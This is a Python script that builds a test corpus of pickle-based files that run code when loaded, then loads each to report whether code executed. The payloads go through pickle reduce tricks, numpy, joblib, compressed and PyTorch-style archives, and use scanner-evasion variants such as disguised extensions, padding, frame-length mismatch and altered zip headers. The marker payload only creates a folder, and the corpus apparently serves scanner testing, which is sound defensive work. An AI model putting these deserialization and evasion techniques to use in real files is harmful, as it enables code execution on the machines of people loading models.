"""Files that run code when Python's own loaders read them: made by those libraries, and proven by loading them.

`malicious.py FOLDER` fills the folder and prints a JSON line {"name", "executed"} per file. What they run makes a
folder named `executed` where they are loaded, and nothing else.
"""

import bz2
import contextlib
import gzip
import io
import json
import lzma
import os
import pickle
import pickletools
import struct
import sys
import tarfile
import tempfile
import zipfile
import zlib
from pathlib import Path

import joblib
import numpy as np

FOLDER = Path(sys.argv[1])


class Payload:
    """Pickled by reference to os.mkdir, as an attacker's object is."""

    def __reduce__(self):
        return os.mkdir, ("executed",)


class ByEval:
    def __reduce__(self):
        return eval, ("__import__('os').mkdir('executed')",)


class ByResolve:
    """pkgutil.resolve_name finds any function by its name (GHSA-vvpj)."""

    def __reduce__(self):
        import pkgutil

        return Call(pkgutil.resolve_name("os:mkdir")), ("executed",)


class Call:
    def __init__(self, function):
        self.function = function

    def __call__(self, *args):
        return self.function(*args)

    def __reduce__(self):
        import pkgutil

        return pkgutil.resolve_name, ("os:mkdir",)


class ByPartial:
    def __reduce__(self):
        import functools

        return functools.reduce, (os.mkdir, ["executed", 0o777])


class Inside:
    """A pickle in a pickle's bytes."""

    def __reduce__(self):
        return pickle.loads, (pickle.dumps(Payload()),)


def load_numpy(file):
    loaded = np.load(file, allow_pickle=True)
    return [loaded[name] for name in loaded] if hasattr(loaded, "files") else loaded


LOADERS = {"pickle": pickle.load, "numpy": load_numpy}
MADE = []


def write(name, data, loader="pickle"):
    (FOLDER / name).write_bytes(data)
    MADE.append((name, loader))


def all_pickles():
    for protocol in range(6):
        for kind in (Payload, ByEval, Inside, ByPartial):
            if kind is ByPartial and protocol < 2:
                continue
            write(f"{kind.__name__.lower()}-p{protocol}.pkl", pickle.dumps(kind(), protocol))
        hidden = {"weights": [np.ones(4)], "meta": {"deep": [[Payload()]]}}
        write(f"hidden-p{protocol}.pkl", pickle.dumps(hidden, protocol))
    plain = pickle.dumps(Payload(), 4)
    write("resolve.pkl", pickle.dumps(ByResolve()))
    write("optimized.pkl", pickletools.optimize(plain))
    write("broken-behind.pkl", plain[:-1] + b"\xff\xff")
    write("cut.pkl", plain[:-1])
    write("no-extension", plain)
    write("weights.safetensors", plain)
    write("config.json", plain)
    write("README.md", pickle.dumps(Payload(), 0))
    write("behind-long-bytes.pkl", pickle.dumps([os.urandom(2_000_000), Payload()]))
    write("in-many.pkl", pickle.dumps([*range(200_000), Payload()]))
    write("frame-divergence.pkl", divergent())


def divergent():
    """The frame says that the stream ends earlier than it does; CPython's C unpickler goes on."""
    body = b"\x8c\x05posix\x8c\x05mkdir\x93\x8c\x08executed\x85R."
    return b"\x80\x04\x95" + struct.pack("<Q", 3) + body


def containers():
    plain = pickle.dumps(Payload())
    objects = np.array([Payload()], dtype=object)
    for name, save in [("objects.npy", np.save), ("objects.npz", np.savez), ("compressed.npz", np.savez_compressed)]:
        buffer = io.BytesIO()
        save(buffer, objects)
        write(name, buffer.getvalue(), "numpy")
    structured = io.BytesIO()
    np.save(structured, np.array([(1.0, Payload())], dtype=[("a", "f4"), ("b", object)]))
    write("structured.npy", structured.getvalue(), "numpy")
    write("pickle-as.npy", plain, "numpy")
    for compress in [0, 3, ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)]:
        label = compress[0] if isinstance(compress, tuple) else compress
        for what, value in [("plain", Payload()), ("objects", objects), ("mixed", [np.ones(5), Payload()])]:
            path = FOLDER / f"{what}-{label}.joblib"
            joblib.dump(value, path, compress=compress)
            MADE.append((path.name, "joblib"))
    for label, compress in [("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress), ("z", zlib.compress)]:
        write(f"packed.{label}", compress(plain), "joblib")


def archives():
    """For loaders that pass an archive's entries to an unpickler."""
    plain = pickle.dumps(Payload(), 2)
    with zipfile.ZipFile(FOLDER / "torch.pt", "w") as archive:
        archive.writestr("archive/data.pkl", plain)
        archive.writestr("archive/version", "3\n")
    with zipfile.ZipFile(FOLDER / "torch-deflated.bin", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", plain)
    inner = (FOLDER / "torch.pt").read_bytes()
    with zipfile.ZipFile(FOLDER / "nested.zip", "w") as archive:
        archive.writestr("models/model.pt", inner)
    for mode in ("w", "w:gz", "w:bz2", "w:xz"):
        name = "model.tar" + mode[1:].replace(":", ".")
        with tarfile.open(FOLDER / name, mode) as archive:
            for entry, data in [("config.yaml", b"a: 1"), ("weights.ckpt", inner)]:
                info = tarfile.TarInfo(entry)
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
        MADE.append((name, None))
    # What PyTorch's reader ignores and Python's does not: flags, checksum, local name.
    for label, at, value in [("flags", 6, b"\x01\x00"), ("checksum", 14, b"\0\0\0\0"), ("local-name", 30, b"x")]:
        data = bytearray(inner)
        data[at : at + len(value)] = value
        if label != "local-name":
            central = data.rfind(b"PK\x01\x02", 0, data.find(b"archive/version", 200))
            data[central + at + 2 : central + at + 2 + len(value)] = value
        write(f"torch-{label}.pt", bytes(data), None)
    MADE.extend((name, None) for name in ["torch.pt", "torch-deflated.bin", "nested.zip"])


def executes(name, loader):
    """Whether the loader runs the file's code. Entries of archives are loaded as their loaders would."""
    with tempfile.TemporaryDirectory() as scratch, contextlib.chdir(scratch):
        with contextlib.suppress(Exception), contextlib.redirect_stdout(io.StringIO()):
            if loader is None:
                return None
            if loader == "joblib":
                joblib.load(FOLDER / name)
            else:
                with open(FOLDER / name, "rb") as file:
                    LOADERS[loader](file)
        return Path("executed").exists()


for make in (all_pickles, containers, archives):
    make()
for made, by in MADE:
    print(json.dumps({"name": made, "executed": executes(made, by)}))
